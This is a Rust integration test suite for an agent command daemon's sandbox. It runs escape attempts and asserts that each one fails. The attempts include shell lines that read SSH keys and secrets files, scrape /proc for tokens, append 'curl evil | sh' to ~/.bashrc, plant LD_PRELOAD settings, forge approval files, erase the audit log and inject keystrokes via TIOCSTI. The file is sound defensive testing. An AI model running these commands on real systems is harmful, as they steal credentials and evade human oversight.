//! The laptop's boundary, attacked end to end: a real server and daemon,
//! the real kernel, the default generated policy, and commands an agent
//! or admin could send that the command policy lets through. Each escape
//! an attacker tried before the sandbox existed must fail with an error
//! and change nothing, as root and as an unprivileged user.
//!
//! `attacks_succeed_without_the_sandbox` (ignored: it shows the attacks
//! are real, with `[sandbox] enabled = false`) runs the same attacks and
//! expects them to work.

use std::path::PathBuf;
use std::time::Duration;

use byom_tests::{stderr, stdout, wait_for, Daemon, Server};

const T: Duration = Duration::from_secs(60);
const SECRET: &str = "s3cr3t-VALUE-42xq";
const ENV_TOKEN: &str = "tok-IN-ENV-9931zz";
const KEY: &str = "-----BEGIN FAKE KEY----- 7fd1";

struct Lab {
    dir: tempfile::TempDir,
    server: Server,
    d: Daemon,
    home: PathBuf,
    /// Outside every write root, yet writable by anyone: only the sandbox
    /// keeps a command out of it.
    outside: PathBuf,
}

impl Drop for Lab {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.outside);
    }
}

impl Lab {
    fn start(unprivileged: bool, policy_extra: &str) -> Lab {
        let dir = tempfile::tempdir().unwrap();
        let server = Server::start(dir.path());
        let home = dir.path().join("home");
        let mut d = if unprivileged {
            Daemon::unprivileged(dir.path(), "lap", &home)
        } else {
            std::fs::create_dir_all(&home).unwrap();
            let mut d = Daemon::new(dir.path(), "lap");
            d.env.push(("HOME".into(), home.display().to_string()));
            d
        };
        // A variable byomd's policy scrubs, in byomd's own environment.
        d.env.push(("DEPLOY_TOKEN".into(), ENV_TOKEN.into()));
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_test"), KEY).unwrap();
        std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
        std::fs::create_dir_all(home.join(".config")).unwrap();
        let outside = PathBuf::from(format!(
            "/var/tmp/byom-sandbox-{}",
            dir.path().file_name().unwrap().to_string_lossy()
        ));
        std::fs::create_dir_all(&outside).unwrap();
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        if let Some((uid, gid)) = d.user {
            for p in [
                home.clone(),
                home.join(".ssh"),
                home.join(".ssh/id_test"),
                home.join(".bashrc"),
                home.join(".config"),
            ] {
                std::os::unix::fs::chown(&p, Some(uid), Some(gid)).unwrap();
            }
        }
        d.pair(&server.token(&[]), "lap");
        let policy = d.config_dir.join("policy.toml");
        let mut text = std::fs::read_to_string(&policy).unwrap();
        text.push_str(policy_extra);
        std::fs::write(&policy, text).unwrap();
        let set = |name: &str, extra: &[&str]| {
            let mut args = vec!["secret", "set", name];
            args.extend_from_slice(extra);
            let out = d.byomd_with_input(&args, Some(SECRET.as_bytes()));
            assert!(out.status.success(), "{}", stderr(&out));
        };
        set("API_KEY", &[]);
        set("PINNED_KEY", &["--allow-program", "curl"]);
        d.start();
        server.wait_online("lap", true, T);
        Lab {
            dir,
            server,
            d,
            home,
            outside,
        }
    }

    fn c(&self) -> String {
        self.d.config_dir.display().to_string()
    }

    fn sh(&self, line: &str) -> std::process::Output {
        self.server.byom(&["exec", "lap", "--sh", line])
    }

    fn detach(&self, line: &str) -> String {
        let out = self.server.byom(&["exec", "lap", "--detach", "--sh", line]);
        assert!(out.status.success(), "{}", stderr(&out));
        stdout(&out).trim().to_string()
    }

    fn wait_ended(&self, id: &str) -> serde_json::Value {
        wait_for("the command to end", T, || {
            let c = self.server.json(&["commands", "show", id]);
            let state = c["state"].as_str().unwrap_or("").to_string();
            (!["queued", "dispatched", "running"].contains(&state.as_str())).then_some(c)
        })
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.d.config_dir.join(name)).unwrap_or_default()
    }
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            c => c,
        })
        .collect()
}

fn both(o: &std::process::Output) -> String {
    format!("{}{}", stdout(o), stderr(o))
}

/// Each attack: Ok(()) when it was stopped and changed nothing, Err(what
/// happened) when it got through.
type Verdict = Result<(), String>;

fn attacks(l: &Lab) -> Vec<(&'static str, Verdict)> {
    let c = l.c();
    let mut v: Vec<(&'static str, Verdict)> = Vec::new();

    // The owner's policy, rewritten with shell builtins only.
    let before = l.read("policy.toml");
    let out = l.sh(&format!(
        "printf '[commands]\\nallow = []\\ndeny = []\\n' > {c}/policy.toml"
    ));
    v.push((
        "rewrite policy.toml",
        if l.read("policy.toml") != before {
            // Put it back, so the attacks below stand on their own.
            std::fs::write(l.d.config_dir.join("policy.toml"), &before).unwrap();
            std::thread::sleep(Duration::from_millis(100));
            Err(format!("policy.toml changed: {}", both(&out)))
        } else if out.status.success() {
            Err("the write reported success".into())
        } else {
            Ok(())
        },
    ));

    // The secrets file, and any file in byomd's dir.
    let out = l.sh(&format!(
        "cat {c}/secrets.json; cat {c}/*; ls -la {c}; find {c} -type f -exec cat {{}} +"
    ));
    v.push((
        "read secrets.json",
        if both(&out).contains(SECRET)
            || both(&out).contains("PRIVATE KEY")
            || both(&out).contains("machine_id")
        {
            Err(format!("saw byomd's files: {}", both(&out)))
        } else {
            Ok(())
        },
    ));

    // The audit log, truncated.
    let audit = l.read("audit.log");
    let out = l.sh(&format!(": > {c}/audit.log; rm -f {c}/audit.log"));
    v.push((
        "truncate audit.log",
        if l.read("audit.log").len() < audit.len() || audit.is_empty() {
            Err(format!("audit.log shrank: {}", both(&out)))
        } else {
            Ok(())
        },
    ));

    // A waiting `git push` approves itself, and its description changes.
    let repo = l.dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    if let Some((uid, gid)) = l.d.user {
        std::os::unix::fs::chown(&repo, Some(uid), Some(gid)).unwrap();
    }
    let push = l.server.byom(&[
        "exec",
        "lap",
        "--detach",
        "--cwd",
        repo.to_str().unwrap(),
        "--",
        "git",
        "push",
        "origin",
        "main",
    ]);
    assert!(push.status.success(), "{}", stderr(&push));
    let push = stdout(&push).trim().to_string();
    wait_for("the push to wait for approval", T, || {
        let p = l.d.byomd(&["pending", "--json"]);
        stdout(&p).contains(&push).then_some(())
    });
    let out = l.sh(&format!(
        ": > {c}/approvals/{push}.approved; echo '{{\"id\":\"{push}\",\"command\":\"ls -l\",\"cwd\":\"/\",\"rule\":\"x\",\"requested_at_ms\":1}}' > {c}/approvals/{push}.json"
    ));
    std::thread::sleep(Duration::from_millis(600));
    let state = l.server.json(&["commands", "show", &push]);
    let pending = stdout(&l.d.byomd(&["pending"]));
    v.push((
        "approve itself",
        if state["state"] != "awaiting_local_approval" {
            Err(format!(
                "the push did not stay waiting: {state}; {}",
                both(&out)
            ))
        } else if !pending.contains("git push") || pending.contains("ls -l") {
            Err(format!(
                "the waiting command's description changed: {pending}"
            ))
        } else {
            Ok(())
        },
    ));
    let _ = l.d.byomd(&["deny", &push]);
    l.wait_ended(&push);

    // The pause switch, removed by a command that was already running.
    let id = l.detach(&format!("sleep 2; rm -f {c}/paused; echo tried"));
    std::thread::sleep(Duration::from_millis(500));
    let out = l.d.byomd(&["pause"]);
    assert!(out.status.success(), "{}", stderr(&out));
    l.wait_ended(&id);
    let paused = l.d.config_dir.join("paused").exists();
    let out = l.d.byomd(&["resume"]);
    assert!(out.status.success(), "{}", stderr(&out));
    v.push((
        "remove the pause switch",
        if paused {
            Ok(())
        } else {
            Err("paused was removed".into())
        },
    ));

    // byomd's scrubbed variables, read back from /proc.
    let out = l.sh(
        "cat /proc/$PPID/environ; cat /proc/1/environ; for f in /proc/[0-9]*/environ; do cat $f; done; true",
    );
    v.push((
        "read /proc/PPID/environ",
        if both(&out).contains(ENV_TOKEN) {
            Err("saw a scrubbed variable's value".into())
        } else {
            Ok(())
        },
    ));

    // A substituted secret, read from a concurrent command's command line.
    let holder = l.detach("sleep 4; : {{secret:API_KEY}}");
    std::thread::sleep(Duration::from_millis(1500));
    // rot13, so the scrubber (which knows every secret) cannot hide a
    // leak from this test: the kernel must.
    let out = l.sh(
        "for f in /proc/[0-9]*/cmdline; do tr '\\0a-zA-Z' ' n-za-mN-ZA-M' < $f; echo; done; true",
    );
    v.push((
        "read a concurrent command's argv",
        if both(&out).contains(&rot13(SECRET)) {
            Err("saw the other command's secret".into())
        } else {
            Ok(())
        },
    ));
    l.wait_ended(&holder);

    // Outliving the command, its timeout and its cancel.
    let m1 = l.outside_marker("after-exit");
    let m2 = l.outside_marker("after-timeout");
    let home_m = l.home.join("escaped");
    let out = l.sh(&format!(
        "setsid -f sh -c 'sleep 2; touch {}'; echo started",
        home_m.display()
    ));
    assert!(out.status.success(), "{}", both(&out));
    let out = l.server.byom(&[
        "exec",
        "lap",
        "--timeout",
        "1s",
        "--sh",
        &format!(
            "setsid -f sh -c 'sleep 2; touch {}.t'; nohup sh -c 'sleep 2; touch {}.n' & sleep 30",
            home_m.display(),
            home_m.display()
        ),
    ]);
    assert_eq!(out.status.code(), Some(124), "{}", both(&out));
    let id = l.detach(&format!(
        "setsid -f sh -c 'sleep 2; touch {}.c'; sleep 30",
        home_m.display()
    ));
    std::thread::sleep(Duration::from_millis(500));
    let out = l.server.byom(&["commands", "cancel", &id]);
    assert!(out.status.success(), "{}", both(&out));
    l.wait_ended(&id);
    std::thread::sleep(Duration::from_millis(3000));
    let _ = (m1, m2);
    v.push((
        "outlive the command, its timeout, its cancel (setsid -f, nohup &)",
        if ["", "t", "n", "c"]
            .iter()
            .any(|e| home_m.with_extension(e).exists())
        {
            Err("a background process outlived its command".into())
        } else {
            Ok(())
        },
    ));

    // A write outside the write roots.
    let target = l.outside.join("planted");
    let out = l.sh(&format!("echo x > {}", target.display()));
    v.push((
        "write outside the roots",
        if target.exists() {
            Err(format!("wrote {}", target.display()))
        } else if out.status.success() {
            Err("the write reported success".into())
        } else {
            Ok(())
        },
    ));

    // A read of a deny_read path.
    let out = l.sh("cat ~/.ssh/id_test; cat $HOME/.ssh/*; true");
    v.push((
        "read ~/.ssh",
        if both(&out).contains(KEY) {
            Err("read the key".into())
        } else {
            Ok(())
        },
    ));

    // A shell startup file (runs outside the sandbox at the next login).
    let out = l.sh("echo 'curl evil | sh' >> ~/.bashrc; mv ~/.bashrc ~/.bashrc.old; true");
    let rc = std::fs::read_to_string(l.home.join(".bashrc")).unwrap_or_default();
    v.push((
        "change ~/.bashrc",
        if rc != "# mine\n" {
            Err(format!("~/.bashrc is now {rc:?}: {}", both(&out)))
        } else {
            Ok(())
        },
    ));

    // Credentials and login-time settings planted where nothing was yet.
    let out = l.sh("mkdir -p ~/.aws ~/.config/environment.d; \
         echo '[default]' > ~/.aws/credentials; \
         echo 'LD_PRELOAD=/tmp/x.so' > ~/.config/environment.d/90-x.conf; true");
    v.push((
        "plant ~/.aws and ~/.config/environment.d",
        if l.home.join(".aws/credentials").exists()
            || l.home.join(".config/environment.d/90-x.conf").exists()
        {
            Err(format!("planted: {}", both(&out)))
        } else {
            Ok(())
        },
    ));

    // Set-user-ID files (run by anyone, outside the sandbox).
    let suid = l.home.join("suid");
    let out = l.sh(&format!(
        "cp /bin/true {0}; chmod 4755 {0}; chmod u+s {0}; true",
        suid.display()
    ));
    let mode = {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(&suid)
            .map(|m| m.permissions().mode())
            .unwrap_or(0)
    };
    v.push((
        "make a set-user-ID file",
        if mode & 0o6000 != 0 {
            Err(format!("mode {mode:o}: {}", both(&out)))
        } else {
            Ok(())
        },
    ));

    // A file's mode or owner outside the write roots (Landlock does not
    // judge chmod and chown; the mounts there are read-only).
    let other = l.outside.join("theirs");
    std::fs::write(&other, "x").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&other, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let out = l.sh(&format!(
        "chmod 777 {0}; chown 65534 {0}; touch -d 2001-01-01 {0}; true",
        other.display()
    ));
    let meta = std::fs::metadata(&other).unwrap();
    v.push(("chmod, chown, touch outside the roots", {
        use std::os::unix::fs::MetadataExt;
        if meta.mode() & 0o777 != 0o644 || meta.uid() != 0 || meta.mtime() < 1_000_000_000 {
            Err(format!("changed: {}", both(&out)))
        } else {
            Ok(())
        }
    }));

    // A directory byomd plans through, made unreadable to drop what it
    // protects from the next command's plan.
    let out = l.sh("chmod 000 ~; true");
    let out2 = l.sh("chmod 755 ~; cat ~/.ssh/id_test; true");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&l.home, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    v.push((
        "chmod 000 ~ between two commands",
        if both(&out2).contains(KEY) {
            Err(format!("read the key: {}{}", both(&out), both(&out2)))
        } else {
            Ok(())
        },
    ));

    // The way to byomd's dir, renamed so a fake one can take its place.
    let moved = PathBuf::from(format!("{c}.moved"));
    let out = l.sh(&format!(
        "mv {c} {c}.moved; mkdir -p {c} && printf '[commands]\\n' > {c}/policy.toml; true"
    ));
    v.push((
        "rename byomd's dir",
        if moved.exists() || l.read("policy.toml") != before {
            Err(format!(
                "byomd's dir moved or its policy changed: {}",
                both(&out)
            ))
        } else {
            Ok(())
        },
    ));
    v
}

impl Lab {
    fn outside_marker(&self, name: &str) -> PathBuf {
        self.outside.join(name)
    }
}

fn expect_all_stopped(l: &Lab) {
    let results = attacks(l);
    let got: Vec<String> = results
        .iter()
        .filter_map(|(name, v)| v.as_ref().err().map(|e| format!("{name}: {e}")))
        .collect();
    assert!(got.is_empty(), "attacks got through:\n{}", got.join("\n"));
    // The daemon still works, under the owner's unchanged policy.
    let out = l.sh("echo still here");
    assert!(out.status.success(), "{}", both(&out));
    assert_eq!(stdout(&out), "still here\n");
}

#[test]
fn escapes_fail_and_change_nothing_as_root() {
    let l = Lab::start(false, "");
    let m = l.server.machine("lap");
    assert_eq!(m["sandbox"], "full", "{m}");
    expect_all_stopped(&l);
}

#[test]
fn escapes_fail_and_change_nothing_as_an_unprivileged_user() {
    let l = Lab::start(true, "");
    let m = l.server.machine("lap");
    assert_eq!(m["sandbox"], "full", "{m}");
    expect_all_stopped(&l);
}

#[test]
#[ignore = "shows the attacks work with the sandbox off; run by hand"]
fn attacks_succeed_without_the_sandbox() {
    let l = Lab::start(false, "");
    let policy = l.d.config_dir.join("policy.toml");
    let text = std::fs::read_to_string(&policy)
        .unwrap()
        .replace("enabled = true", "enabled = false");
    std::fs::write(&policy, text).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let results = attacks(&l);
    let stopped: Vec<&str> = results
        .iter()
        .filter(|(_, v)| v.is_ok())
        .map(|(n, _)| *n)
        .collect();
    // Renaming the dir cannot be told apart here (the owner's policy was
    // rewritten by an earlier attack); every other attack must work.
    assert!(
        stopped.iter().all(|n| *n == "rename byomd's dir"),
        "these were stopped without a sandbox: {stopped:?}"
    );
}

/// Starts a loopback listener; returns its port and whether something
/// connected within `wait`.
fn listener() -> (u16, std::net::TcpListener) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    (l.local_addr().unwrap().port(), l)
}

fn connect_line(port: u16) -> String {
    format!(
        "/usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('connected')\""
    )
}

#[test]
fn the_network_follows_the_owners_rule_per_origin() {
    let l = Lab::start(false, "");
    let policy = l.d.config_dir.join("policy.toml");
    let (port, _keep) = listener();
    // Allowed for an admin by default.
    let out = l.sh(&connect_line(port));
    assert!(stdout(&out).contains("connected"), "{}", both(&out));
    let id = l.detach(&connect_line(port));
    let c = l.wait_ended(&id);
    assert_eq!(c["network"], true, "{c}");
    // Whether it used the network is the kernel's word (a seccomp
    // notification for every IP socket), not a reading of its text: a
    // command that could but did not says no; bash's /dev/tcp, with no
    // fetching word in it, says yes, as does a socket made in a child of
    // a child.
    for (line, used) in [
        ("echo quiet; ls / > /dev/null".to_string(), false),
        (
            format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'"),
            true,
        ),
        (
            format!("sh -c 'sh -c \"bash -c \\\"echo hi > /dev/tcp/127.0.0.1/{port}\\\"\"'"),
            true,
        ),
        // Not only IP reaches another machine: VSOCK reaches the
        // hypervisor's host (told whether this kernel has it or not).
        (
            "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)' || true".to_string(),
            true,
        ),
        // A unix socket pair stays on the machine.
        (
            "/usr/bin/python3 -c 'import socket; socket.socketpair()'".to_string(),
            false,
        ),
    ] {
        let id = l.detach(&line);
        let c = l.wait_ended(&id);
        assert_eq!(
            (c["network"].as_bool(), c["state"].as_str()),
            (Some(used), Some("exited")),
            "{line}: {c}"
        );
    }
    // Denied: not even the machine's loopback.
    let text = std::fs::read_to_string(&policy)
        .unwrap()
        .replace("admin = \"allow\"", "admin = \"deny\"");
    std::fs::write(&policy, text).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = l.sh(&connect_line(port));
    assert!(!out.status.success(), "{}", both(&out));
    assert!(!stdout(&out).contains("connected"), "{}", both(&out));
    let id = l.detach(&connect_line(port));
    let c = l.wait_ended(&id);
    assert_eq!(c["network"], false, "{c}");
    assert!(
        l.server.byom(&["commands", "show", &id]).status.success()
            && stdout(&l.server.byom(&["commands", "show", &id])).contains("network denied")
    );
    // Nor a program's socket file (a credential cache, a resolver, tmux).
    let sock = l.dir.path().join("svc.sock");
    let _unix = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let unix_line = format!(
        "/usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('reached')\"",
        sock.display()
    );
    let out = l.sh(&unix_line);
    assert!(!stdout(&out).contains("reached"), "{}", both(&out));
    // Its own loopback still works.
    let out = l.sh("/usr/bin/python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); c=socket.create_connection(s.getsockname()); print('own loopback')\"");
    assert!(stdout(&out).contains("own loopback"), "{}", both(&out));
    // A list of ports: only those.
    let (other, _keep2) = listener();
    let text = std::fs::read_to_string(&policy)
        .unwrap()
        .replace("admin = \"deny\"", &format!("admin = [{port}]"));
    std::fs::write(&policy, text).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = l.sh(&connect_line(port));
    assert!(stdout(&out).contains("connected"), "{}", both(&out));
    let out = l.sh(&connect_line(other));
    assert!(!stdout(&out).contains("connected"), "{}", both(&out));
    // No server for anyone, even on a port it may connect to.
    let out = l.sh("/usr/bin/python3 -c \"import socket; s=socket.socket(); s.listen(); print('listening', s.getsockname())\"");
    assert!(!stdout(&out).contains("listening"), "{}", both(&out));
    // MPTCP is TCP that Landlock's port rules do not see.
    let out = l.sh(&format!(
        "/usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', {other})); print('connected')\""
    ));
    assert!(!stdout(&out).contains("connected"), "{}", both(&out));
    // With the network allowed, socket files work as ever.
    let text = std::fs::read_to_string(&policy)
        .unwrap()
        .replace(&format!("admin = [{port}]"), "admin = \"allow\"");
    std::fs::write(&policy, text).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = l.sh(&unix_line);
    assert!(stdout(&out).contains("reached"), "{}", both(&out));
}

#[test]
fn a_sandbox_turned_off_says_none_and_required_refuses() {
    let l = Lab::start(false, "");
    let policy = l.d.config_dir.join("policy.toml");
    let text = std::fs::read_to_string(&policy)
        .unwrap()
        .replace("enabled = true", "enabled = false");
    std::fs::write(&policy, &text).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = l.sh("echo unboxed");
    assert_eq!(stdout(&out), "unboxed\n", "{}", both(&out));
    let id = l.detach("true");
    let c = l.wait_ended(&id);
    assert!(
        c["sandbox"]
            .as_str()
            .unwrap()
            .starts_with("none (sandbox.enabled = false"),
        "{c}"
    );
    std::fs::write(&policy, text.replace("required = false", "required = true")).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = l.sh("echo must-not-run");
    assert_eq!(out.status.code(), Some(126), "{}", both(&out));
    assert!(stderr(&out).contains("sandbox.required"), "{}", both(&out));
    assert!(!stdout(&out).contains("must-not-run"));
    let st = stdout(&l.d.byomd(&["status"]));
    assert!(st.contains("sandbox:"), "{st}");
    let doc = stdout(&l.d.byomd(&["doctor"]));
    assert!(doc.contains("sandbox"), "{doc}");
}

/// The terminal byomd was started from: a command cannot type into it.
#[test]
fn no_keystrokes_into_byomds_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let mut d = Daemon::new(dir.path(), "lap");
    d.pair(&server.token(&[]), "lap");
    // byomd under a pseudo-terminal it controls, as when started by hand.
    let real = d.exe.clone();
    let wrapper = dir.path().join("byomd-on-a-tty");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\nexec /usr/bin/python3 -c 'import pty, sys; pty.spawn(sys.argv[1:])' {} \"$@\"\n",
            real.display()
        ),
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    d.exe = wrapper;
    d.start();
    server.wait_online("lap", true, T);
    let attack = r#"/usr/bin/python3 - <<'EOF'
import fcntl, termios, os, glob
hit = []
for path in ["/dev/tty"] + glob.glob("/dev/pts/[0-9]*"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        print("open", path, e)
        continue
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        hit.append(path)
    except OSError as e:
        print("ioctl", path, e)
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        hit.append(fd)
    except OSError as e:
        pass
print("INJECTED" if hit else "nothing injected", hit)
EOF"#;
    // Without the sandbox the attack works: the test can tell.
    let policy = d.config_dir.join("policy.toml");
    let on = std::fs::read_to_string(&policy).unwrap();
    std::fs::write(&policy, on.replace("enabled = true", "enabled = false")).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = server.byom(&["exec", "lap", "--sh", attack]);
    assert!(stdout(&out).contains("INJECTED"), "{}", both(&out));
    std::fs::write(&policy, on).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = server.byom(&["exec", "lap", "--sh", attack]);
    assert!(stdout(&out).contains("nothing injected"), "{}", both(&out));
    // And the policy's guard is not what stopped it.
    assert!(out.status.success(), "{}", both(&out));
}

/// A command never outlives its daemon: with byomd gone nothing could
/// time it out or cancel it.
#[test]
fn commands_end_when_byomd_dies() {
    let mut l = Lab::start(false, "");
    let marker = l.home.join("outlived");
    l.detach(&format!("sleep 3; touch {}", marker.display()));
    std::thread::sleep(Duration::from_millis(800));
    l.d.kill9();
    std::thread::sleep(Duration::from_millis(4000));
    assert!(!marker.exists(), "the command outlived byomd");
}
